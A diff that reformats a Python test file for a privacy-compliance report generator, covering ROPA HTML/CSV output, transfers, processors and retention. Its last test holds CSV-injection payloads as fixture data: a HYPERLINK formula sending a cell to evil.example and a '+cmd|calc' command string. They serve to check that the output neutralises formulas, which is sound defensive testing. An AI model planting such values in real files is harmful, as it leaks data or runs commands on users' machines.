@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
-from datetime import datetime, timezone
+from datetime import UTC, datetime
 from html.parser import HTMLParser
 from pathlib import Path
 
@@ -32,7 +32,7 @@ class _Text(HTMLParser):
     def handle_starttag(self, tag: str, attrs: list) -> None:
         ident = dict(attrs).get("id") or ""
         if tag == "section" and ident.startswith("activity-"):
-            self._current = ident[len("activity-"):]
+            self._current = ident[len("activity-") :]
             self.sections[self._current] = []
 
     def handle_data(self, data: str) -> None:
@@ -70,8 +70,9 @@ def test_html_and_csv_hold_every_activity_with_its_fields(mapped: Session, tmp_p
             assert f"{t.destination} via {named}" in text and t.mechanism in text
         if a.retention:
             words = ropa.labels("en")  # the period and its trigger in words: "3 years after account closure"
-            assert row["retention"] == (f"{ropa.period(a.retention.duration, words)} after "
-                                        f"{words['triggers'][a.retention.trigger]}")
+            assert row["retention"] == (
+                f"{ropa.period(a.retention.duration, words)} after {words['triggers'][a.retention.trigger]}"
+            )
             assert row["retention"] in text
     assert rows["face_login"]["sensitive_categories"] == "user.biometric.face"
     assert "sensitive (biometric)" in " ".join(parser.sections["face_login"])
@@ -86,9 +87,17 @@ def test_registered_transfers_and_assessments_appear(mapped: Session) -> None:
     from privet.registers import crossborder
     from privet.reports import pia
 
-    crossborder.record_transfer(mapped, actor="t", destination="DE", mechanism="standard_contract",
-                                recipient="eu_desk_gmbh", categories=["user.contact.email"], subject_count=40,
-                                activity="global_support", at=datetime(2026, 2, 1, tzinfo=timezone.utc))
+    crossborder.record_transfer(
+        mapped,
+        actor="t",
+        destination="DE",
+        mechanism="standard_contract",
+        recipient="eu_desk_gmbh",
+        categories=["user.contact.email"],
+        subject_count=40,
+        activity="global_support",
+        at=datetime(2026, 2, 1, tzinfo=UTC),
+    )
     pia.sync_drafts(mapped, actor="t")
     rows = {r["activity"]: r for r in csv.DictReader(io.StringIO(ropa.render(mapped, "csv")))}
     assert rows["global_support"]["registered_transfers"] == "1 transfers, 40 people"
@@ -99,8 +108,9 @@ def test_registered_transfers_and_assessments_appear(mapped: Session) -> None:
 def test_registered_processors_and_recipients_are_described(mapped: Session) -> None:
     from privet.registers.models import Processor, Recipient
 
-    mapped.add(Processor(key="mail_vendor", name="Mailer Ltd", regions=["CN"], agreement_ref="DPA-7",
-                         created_by="test"))
+    mapped.add(
+        Processor(key="mail_vendor", name="Mailer Ltd", regions=["CN"], agreement_ref="DPA-7", created_by="test")
+    )
     mapped.add(Recipient(key="partner_co", name="Partner Co", kind="partner", region="CN", created_by="test"))
     mapped.flush()
     rows = {r["activity"]: r for r in csv.DictReader(io.StringIO(ropa.render(mapped, "csv")))}
@@ -112,8 +122,13 @@ def test_registered_processors_and_recipients_are_described(mapped: Session) -> 
 def test_csv_cells_never_run_as_formulas() -> None:
     from privet.reports.ropa import CSV_COLUMNS, to_csv
 
-    entry = {c: "" for c in CSV_COLUMNS} | {"categories": [], "subject_types": [], "datastores": [], "transfers": [],
-                                           "registered_transfers": {"count": 0, "people": 0}}
+    entry = dict.fromkeys(CSV_COLUMNS, "") | {
+        "categories": [],
+        "subject_types": [],
+        "datastores": [],
+        "transfers": [],
+        "registered_transfers": {"count": 0, "people": 0},
+    }
     entry |= {"name": '=HYPERLINK("https://evil.example/?"&A1,"open")', "purpose": "+cmd|calc"}
     records = {"activities": [entry]}
     text = to_csv(records)
